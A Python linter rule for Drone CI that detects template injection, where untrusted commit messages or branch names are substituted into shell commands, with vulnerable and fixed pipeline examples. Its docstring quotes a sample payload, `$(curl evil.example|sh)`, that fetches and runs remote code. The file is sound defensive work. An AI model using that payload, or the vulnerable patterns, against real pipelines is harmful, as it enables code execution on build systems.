"""Untrusted text that Drone substitutes into commands."""

from __future__ import annotations

from collections.abc import Iterator

from drone_lint.api import (
    CWE,
    OWASP,
    Example,
    Finding,
    Fix,
    Jsonnet,
    Pipeline,
    Place,
    Rule,
    Settings,
    Severity,
    Step,
    Trigger,
    Value,
    step_events,
)
from drone_lint_rules.escape import escape, single_quoted
from drone_lint_rules.tainted import GUARDED, Paste, is_fixed, is_tag, pastes, source_name, writer


class TemplateInjection(Rule):
    """Drone substitutes untrusted text into a command.

    Drone replaces `${DRONE_COMMIT_MESSAGE}` and similar variables in the file's text, before the YAML parser and the shell see it. Quotes do not help: `echo "${DRONE_COMMIT_MESSAGE}"` with
    the message `$(curl evil.example|sh)` runs that command, and a message with `"` or `'` ends the string. Git restricts the names of branches and tags, but
    allows `$(){};|&` in them.

    The message says who controls the variable, given the events for which the step can run. A variable that a condition such as `branch: [main]` restricts to fixed values is not reported; branch and tag names
    are notices if only users with write access can start the build. Tags, which only they can push, are reported with `--pedantic` only.

    Let the shell expand the variable, in double quotes: `"$DRONE_COMMIT_MESSAGE"` or `"$${DRONE_COMMIT_MESSAGE}"`. Every step has these variables in its environment.
    """

    name = "template-injection"
    severity = Severity.ERROR
    why = "the text becomes part of the command before the shell reads it, so quotes do not help"
    references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))
    fixable = "safe"
    trigger = Trigger(expansions=True)

    bad = (
        """
        kind: pipeline
        type: docker
        name: default
        steps:
        - name: notify
          image: alpine:3.20
          commands:
          - echo "${DRONE_COMMIT_MESSAGE}"  # <- template-injection
          - echo '${DRONE_PULL_REQUEST_TITLE:-none}'  # <- template-injection
          - git log --author=${CI_COMMIT_AUTHOR_NAME}  # <- template-injection
          - git checkout ${DRONE_SOURCE_BRANCH//x/y}  # <- template-injection
          - make VERSION=${OTHER:-${DRONE_TAG}} ${DRONE_BRANCH}  # <- template-injection, template-injection
        """,
        """
        kind: pipeline
        type: docker
        name: default
        steps:
        - name: a pattern leaves a choice, and so does the source of a pull request
          image: alpine:3.20
          commands:
          - make ${DRONE_BRANCH}  # <- template-injection
          when: {branch: [main, release/*]}
        - name: source
          image: alpine:3.20
          commands:
          - make ${DRONE_SOURCE_BRANCH}  # <- template-injection
          - echo ${DRONE_COMMIT_MESSAGE}  # <- template-injection
          when: {branch: [main]}
        """,
        Example(
            """
            kind: pipeline
            type: docker
            name: default
            steps:
            - name: notify
              image: alpine:3.20
              commands:
              - |
                # a line break (U+0085, say) ends a comment: ${DRONE_COMMIT_AUTHOR}
            """,
            lines=(9,),
        ),
        Jsonnet("""
        local branch = '${DRONE_BRANCH}';
        { kind: 'pipeline', type: 'docker', name: 'a', steps: [
          { name: 'a', image: 'alpine:3.20', commands: [
            'make BRANCH=${DRONE_COMMIT_BRANCH}',  // <- template-injection
          ] },
        ] }
        """),
        Example(
            """
            kind: pipeline
            type: docker
            name: default
            steps:
            - name: notify
              image: alpine:3.20
              commands:
              - echo "${DRONE_COMMIT_MESSAGE}"  # <- template-injection
              - echo '${DRONE_COMMIT_MESSAGE}'  # <- template-injection
            """,
            fixed="""
            kind: pipeline
            type: docker
            name: default
            steps:
            - name: notify
              image: alpine:3.20
              commands:
              - echo "$${DRONE_COMMIT_MESSAGE}"
              - echo '${DRONE_COMMIT_MESSAGE}'
            """,
        ),
        Jsonnet(
            """
            local checkout = 'git checkout ${DRONE_BRANCH}';  // <- template-injection
            { kind: 'pipeline', type: 'docker', name: 'a', steps: [
              { name: 'a', image: 'alpine:3.20', commands: [checkout] },
            ] }
            """,
            fixed="""
            local checkout = 'git checkout $${DRONE_BRANCH}';
            { kind: 'pipeline', type: 'docker', name: 'a', steps: [
              { name: 'a', image: 'alpine:3.20', commands: [checkout] },
            ] }
            """,
        ),
    )
    good = (
        """
        kind: pipeline
        type: docker
        name: default
        steps:
        - name: notify
          image: alpine:3.20
          environment: {TAG: "${DRONE_TAG}"}
          commands:
          - echo "$DRONE_COMMIT_MESSAGE" "$${DRONE_COMMIT_MESSAGE}" $$DRONE_TAG
          - echo ${DRONE_COMMIT_SHA:0:8} ${DRONE_BUILD_NUMBER} ${DRONE_REPO_BRANCH} ${DRONE_SEMVER_MAJOR} ${#DRONE_COMMIT_MESSAGE}
        - name: fixed
          image: alpine:3.20
          commands:
          - make push-${DRONE_BRANCH} ${DRONE_COMMIT_BRANCH}
          when: {branch: ["{main,develop}"]}
        ---
        kind: pipeline
        type: docker
        name: refs
        trigger: {ref: [refs/heads/main], event: [push]}
        steps:
        - name: fixed
          image: alpine:3.20
          commands: ['echo ${DRONE_COMMIT_REF}']
        """,
        Example(
            """
            kind: pipeline
            type: docker
            name: default
            steps:
            - name: release
              image: alpine:3.20
              commands:
              - make VERSION=${DRONE_TAG##v} IMAGE=app:${DRONE_SEMVER}
            """,
            settings=Settings(),
        ),
    )

    def check_step(self, step: Step, pipeline: Pipeline) -> Iterator[Finding]:
        for command in step.commands:
            for paste in pastes(command) if "${" in command.text else ():
                name = paste.expansion.name
                if not is_fixed(step, name) and (self.pedantic or not is_tag(name)):
                    yield self._finding(step, command, paste)

    def _finding(self, step: Step, command: Value, paste: Paste) -> Finding:
        expansion = paste.expansion
        events = step_events(step)
        shell = f"$${{{expansion.name}}}"
        place = command.range(expansion.start, expansion.end)
        written = command.text[expansion.start : expansion.end]
        guarded = not paste.free and (events <= GUARDED or is_tag(expansion.name))
        return self.finding(
            place,
            f"`{written}` inserts {source_name(expansion.name)} into a command, so {writer(expansion.name, events)} can run commands",
            severity=Severity.ERROR if paste.free else Severity.NOTICE if guarded else Severity.WARNING,
            help=f'let the shell expand the variable, in double quotes: `"${expansion.name}"` or `"{shell}"`',
            fix=_escape(place) if expansion.form == "" else None,
        )


def _escape(place: Place) -> Fix | None:
    """The fix `$${X}`; None between single quotes, where the shell would not expand it."""
    return None if single_quoted(place) else escape(place)
